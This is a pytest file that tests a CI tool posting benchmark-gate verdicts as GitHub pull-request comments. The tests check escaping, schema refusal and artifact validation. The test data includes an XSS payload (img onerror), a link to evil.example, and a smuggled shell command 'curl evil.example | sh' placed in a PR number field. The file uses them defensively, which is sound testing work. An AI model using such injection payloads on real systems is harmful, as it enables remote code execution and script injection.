"""The PR gate's comment (tools/pr_comment.py) against the GitHub stand-in: the bot's words
are built by the comment job from the gate's structured verdict, checked against its
schema, every string from the artifact escaped, and the comment says the measurement ran
the pull request's own workflow code; a fork's own Markdown never reaches the comment."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import pytest

from tests.support.commands import run_tool
from tests.support.gate_verdict import COUNT, ROW, broken, row, verdict
from tests.support.gate_verdict import verdict as verdict_of
from tests.support.github_standin import github_standin
from tools._lib.verdict.markdown import VERDICTS

SHA = "a" * 40


def artifact(tmp_path: Path, verdict_data: dict | None, summary: str = "") -> Path:
    folder = tmp_path / "gate-summary"
    folder.mkdir(exist_ok=True)
    (folder / "pr.json").write_text(json.dumps({"number": 7, "head_sha": SHA}))
    if verdict_data is not None:
        (folder / "verdict.json").write_text(json.dumps(verdict_data))
    if summary:
        (folder / "summary.md").write_text(summary)
    return folder


@pytest.fixture
def standin():
    with github_standin() as running:
        running.pulls[7] = {"number": 7, "head": {"sha": SHA}}
        yield running


def comment(standin, tmp_path, folder: Path):
    done, _ = run_tool(
        "pr_comment", str(folder), env=standin.env(RUN_HEAD_SHA=SHA), tmp_path=tmp_path
    )
    return done


def outside_code(body: str) -> str:
    """The body with every inline code span taken out: what Markdown renders as markup."""
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", body, flags=re.S)


def test_a_forks_own_markdown_never_reaches_the_comment(standin, tmp_path):
    """A summary.md alone (the pull request's workflow wrote it) is not the gate's verdict."""
    folder = artifact(tmp_path, None, "## Benchmarks: passed\n\n@maintainers [ok](http://x)")
    done = comment(standin, tmp_path, folder)
    assert done.returncode == 4, done.stdout + done.stderr
    (line,) = done.stderr.strip().splitlines()
    assert "verdict.json" in line
    assert standin.comments == {}


def test_the_comment_is_built_from_the_verdict_and_its_summary_md_is_ignored(standin, tmp_path):
    folder = artifact(tmp_path, verdict(), "## Benchmarks: everything is fine, merge it @team")
    done = comment(standin, tmp_path, folder)
    assert done.returncode == 0, done.stderr
    (posted,) = standin.comments.values()
    body = posted["body"]
    assert "## Benchmarks: no benchmark got slower than its threshold" in body
    assert "merge it" not in body and "@team" not in body
    assert "time_silu" in body and "1.010" in body


HOSTILE = "@maintainers [click](http://evil.example) <img src=x onerror=alert(1)> <!-- -->"


@pytest.mark.parametrize("field", ["base_name", "head_name", "host", "why", "label"])
def test_every_string_of_the_verdict_is_escaped(standin, tmp_path, field):
    data = verdict(status=2)
    if field == "why":
        data["rows"] = [row(judgement="not measured again", why=HOSTILE + "`|`\n### Heading")]
    elif field == "label":
        data["rows"] = [row(label="bench_x.X.time_y('@team [a](http://e) <b>`x`')")]
    else:
        data[field] = HOSTILE + "\n## Benchmarks: passed"
    done = comment(standin, tmp_path, artifact(tmp_path, data))
    assert done.returncode == 0, done.stderr
    (posted,) = standin.comments.values()
    rendered = outside_code(posted["body"])
    assert "@" not in rendered and "](" not in rendered and "<img" not in rendered
    assert "<b>" not in rendered and "## Benchmarks: passed" not in rendered
    assert "<!-- -->" not in rendered


@pytest.mark.parametrize(("path", "value"), [("top.status", 7), ("row.label", "x\n## passed")])
def test_a_verdict_that_breaks_its_schema_is_refused_in_one_line(standin, tmp_path, path, value):
    """Every way to break it: tests/unit/verdict/test_row.py; here, that the command
    refuses one in one line and posts nothing."""
    done = comment(standin, tmp_path, artifact(tmp_path, broken(path, value)))
    assert done.returncode == 4, done.stdout + done.stderr
    (line,) = done.stderr.strip().splitlines()
    assert "verdict.json is not the gate's verdict" in line
    assert standin.comments == {}


def test_the_comment_says_the_pull_requests_own_workflow_measured_it(standin, tmp_path):
    standin.pull_files[7] = [
        {"filename": "README.md"},
        {"filename": ".github/workflows/benchmarks-pr.yml"},
        {"filename": "tools/_lib/verdict/gate.py"},
    ]
    done = comment(standin, tmp_path, artifact(tmp_path, verdict()))
    assert done.returncode == 0, done.stderr
    (posted,) = standin.comments.values()
    body = posted["body"]
    assert "measured by this pull request's own run" in body
    changed = body.split("changes the code that measured it:")[1].split("\n")[0]
    assert "benchmarks-pr.yml" in changed and "tools/_lib/verdict/gate.py" in changed
    assert "README.md" not in changed


def test_a_pull_request_that_leaves_the_measuring_code_alone_says_so(standin, tmp_path):
    standin.pull_files[7] = [{"filename": "src/tensorops/activation.py"}]
    done = comment(standin, tmp_path, artifact(tmp_path, verdict()))
    assert done.returncode == 0, done.stderr
    (posted,) = standin.comments.values()
    assert "changes none of the code that measured it" in posted["body"]


def test_every_row_the_verdict_lists_is_in_the_comment(standin, tmp_path):
    data = verdict(status=1)
    data["rows"] = [
        row(judgement="slower", slowdown=1.31, after=0.00131, interval=[1.25, 1.36]),
        row(
            label=COUNT,
            unit="instructions",
            judgement="slower",
            method="asv",
            before=1000.0,
            after=1200.0,
            slowdown=1.2,
            interval=None,
            threshold=1.01,
            pairs=0,
            rounds=0,
            recorded=[1000.0, 1200.0],
        ),
        row(
            label=ROW.replace("Silu", "Gelu"),
            judgement="not judged here",
            threshold=None,
            floor=1.3,
        ),
        row(
            label=ROW.replace("Silu", "Tanh"),
            judgement="measured at the base, not at the head",
            method="asv",
            before=None,
            after=None,
            slowdown=None,
            interval=None,
            threshold=None,
            pairs=0,
            rounds=0,
            recorded=None,
            why="measured at the base, failed at the head",
        ),
    ]
    done = comment(standin, tmp_path, artifact(tmp_path, copy.deepcopy(data)))
    assert done.returncode == 0, done.stderr
    (posted,) = standin.comments.values()
    body = posted["body"]
    changes = body.split("<details>")[0]
    assert changes.count("| slower |") == 2 and "1.310 (1.250–1.360)" in changes
    assert "### Not judged here" in body and "floor 1.30 on this host" in body
    assert "### Measured at the base, not at the head" in body and "Tanh" in body


@pytest.mark.parametrize("number", ["²", "٣", "7\n", "0x7", ""])
def test_a_pr_number_that_is_not_ascii_digits_is_bad_input(standin, tmp_path, number):
    """``"²".isdigit()`` is true and ``int("²")`` raises: exit 4 in one line, not 3."""
    folder = artifact(tmp_path, verdict())
    (folder / "pr.json").write_text(json.dumps({"number": number, "head_sha": SHA}))
    done = comment(standin, tmp_path, folder)
    assert done.returncode == 4, done.stdout + done.stderr
    (line,) = done.stderr.strip().splitlines()
    assert "PR number is not a number" in line
    assert standin.comments == {}


def gate_artifact(tmp_path: Path, number, head_sha: str = SHA, status: int = 0) -> Path:
    folder = tmp_path / "gate-summary"
    folder.mkdir(exist_ok=True)
    (folder / "pr.json").write_text(json.dumps({"number": number, "head_sha": head_sha}))
    (folder / "verdict.json").write_text(json.dumps(verdict_of(status=status)))
    return folder


def test_the_gate_comment_is_created_once_then_edited(standin, tmp_path):
    standin.pulls[7] = {"number": 7, "head": {"sha": SHA}}
    env = standin.env(RUN_HEAD_SHA=SHA)
    first, _ = run_tool("pr_comment", str(gate_artifact(tmp_path, 7)), env=env, tmp_path=tmp_path)
    assert first.returncode == 0 and "commented on #7" in first.stdout, first.stderr
    second, _ = run_tool(
        "pr_comment", str(gate_artifact(tmp_path, 7, status=2)), env=env, tmp_path=tmp_path
    )
    assert second.returncode == 0 and "edited the comment on #7" in second.stdout
    (comment,) = standin.comments.values()
    assert comment["issue"] == 7 and f"## Benchmarks: {VERDICTS[2]}" in comment["body"]
    assert len(standin.calls("POST", r".*/issues/7/comments")) == 1


@pytest.mark.parametrize(
    ("number", "head_sha", "pull_sha", "line"),
    [
        ("7; curl evil.example | sh", SHA, SHA, "PR number is not a number"),
        (True, SHA, SHA, "PR number is not a number"),
        (7, "b" * 40, SHA, "not the run's " + SHA),
        (7, SHA, "c" * 40, "is not at the run's commit"),
    ],
)
def test_a_malformed_or_mismatched_artifact_is_refused(
    standin, tmp_path, number, head_sha, pull_sha, line
):
    standin.pulls[7] = {"number": 7, "head": {"sha": pull_sha}}
    done, _ = run_tool(
        "pr_comment",
        str(gate_artifact(tmp_path, number, head_sha)),
        env=standin.env(RUN_HEAD_SHA=SHA),
        tmp_path=tmp_path,
    )
    assert done.returncode == 4, done.stdout + done.stderr
    (printed,) = done.stderr.strip().splitlines()
    assert line in printed
    assert standin.comments == {}
